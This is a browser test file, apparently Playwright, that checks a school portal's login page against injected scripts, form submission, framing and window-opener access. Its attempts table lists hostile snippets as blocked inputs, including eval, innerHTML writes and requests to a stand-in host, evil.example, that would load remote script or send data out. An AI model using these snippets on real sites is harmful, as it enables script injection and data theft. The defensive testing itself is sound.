import { people } from '@superhero/school-cloud/people';
import { expect, logIn, test } from './fixtures.ts';
import { openSibling } from './harness/sibling.ts';
import { tryInPage } from './harness/try-in-page.ts';

/** What a script that got onto the page might try, and the rule that it must run into. */
const attempts = {
  "document.body.innerHTML = '<b>x</b>'": 'require-trusted-types-for',
  "document.write('<b>x</b>')": 'require-trusted-types-for',
  "document.createElement('script').src = 'https://evil.example/x.js'": 'require-trusted-types-for',
  "document.createElement('script').textContent = 'alert(1)'": 'require-trusted-types-for',
  "document.body.setAttribute('onclick', 'alert(1)')": 'require-trusted-types-for',
  "new Worker('/worker.js')": 'require-trusted-types-for',
  "eval('1')": 'require-trusted-types-for',
  "new Function('return 1')": 'require-trusted-types-for',
  "trustedTypes.createPolicy('evil', { createHTML: (html) => html })": 'trusted-types',
  "trustedTypes.createPolicy('default', { createHTML: (html) => html })": 'trusted-types',
  "trustedTypes.createPolicy('dompurify', { createHTML: (html) => html })": 'trusted-types',
  "import('https://evil.example/x.js')": 'script-src-elem',
  "fetch('https://evil.example/take?it')": 'connect-src',
  "Object.assign(new Image(), { src: 'https://evil.example/take.png' }).decode()": 'img-src',
  "new FontFace('evil', 'url(https://evil.example/take.woff2)').load()": 'font-src',
};

test('a script on the page can neither run text, nor write HTML, nor send anything elsewhere', async ({
  page,
  problems,
}) => {
  problems.expect(/Content Security Policy/, /Trusted/);
  await page.goto('/login');
  await logIn(page, people.superhero);
  for (const [attempt, rule] of Object.entries(attempts)) {
    problems.expect(new RegExp(`policy violation: ${rule} `));
    expect(await tryInPage(page, attempt), attempt).toMatch(/Error$/);
  }
  await expect(page.getByRole('banner')).toContainText('Greta Sonnenfeld');
});

test('a form on the page can be sent nowhere, not even to the site itself', async ({ page, problems }) => {
  problems.expect(/form-action 'none'/, /policy violation: form-action/);
  await page.goto('/login');
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('Anmelden');
  const asked: string[] = [];
  page.on('request', (request) => asked.push(request.url()));
  // Past the program that would have sent it otherwise.
  await page.evaluate(() => document.querySelector('form')?.submit());
  await expect.poll(() => problems.verdict().missing).toEqual([]);
  expect(await page.evaluate(() => window.location.search)).toBe('');
  expect(asked).toEqual([]);
});

test('another site that frames the page gets an empty frame', async ({ page, site, leaks, problems }) => {
  problems.expect(/frame-ancestors 'none'/);
  const thief = await openSibling();
  leaks.allow(thief.url);
  const parts: string[] = [];
  page.on('request', (request) => {
    if (request.url().startsWith(site.url)) parts.push(request.url().slice(site.url.length));
  });
  await page.goto(thief.url);
  await page.evaluate((address) => {
    const frame = document.createElement('iframe');
    frame.src = address;
    document.body.append(frame);
  }, `${site.url}/login`);
  await expect.poll(() => problems.verdict().missing).toEqual([]);
  await expect(page.frameLocator('iframe').getByRole('heading', { level: 1 })).toHaveCount(0);
  expect(parts).toEqual(['/login']);
  await thief.close();
});

test('another site that opens the page in a window gets no hold of it', async ({ page, site, leaks }) => {
  const thief = await openSibling();
  leaks.allow(thief.url);
  await page.goto(thief.url);
  const opened = page.waitForEvent('popup');
  await page.evaluate((address) => {
    window.open(address, 'mine');
  }, `${site.url}/login`);
  const popup = await opened;
  await expect(popup.getByRole('heading', { level: 1 })).toHaveText('Anmelden');
  expect(await popup.evaluate(() => window.opener === null && window.name === '')).toBe(true);
  await thief.close();
});

test('the page is isolated from every other site in the browser', async ({ page }) => {
  await page.goto('/login');
  expect(await page.evaluate(() => window.crossOriginIsolated)).toBe(true);
});

test.describe('without JavaScript', () => {
  test.use({ javaScriptEnabled: false });

  test('there is no form whose password could end up in an address', async ({ page }) => {
    const asked: string[] = [];
    page.on('request', (request) => asked.push(request.method()));
    await page.goto('/login');
    await expect(page.locator('noscript').locator('[lang="en"]')).toHaveText('Please switch JavaScript on.');
    await expect(page.locator('form, input, button')).toHaveCount(0);
    await page.keyboard.press('Enter');
    expect(new Set(asked)).toEqual(new Set(['GET']));
  });
});
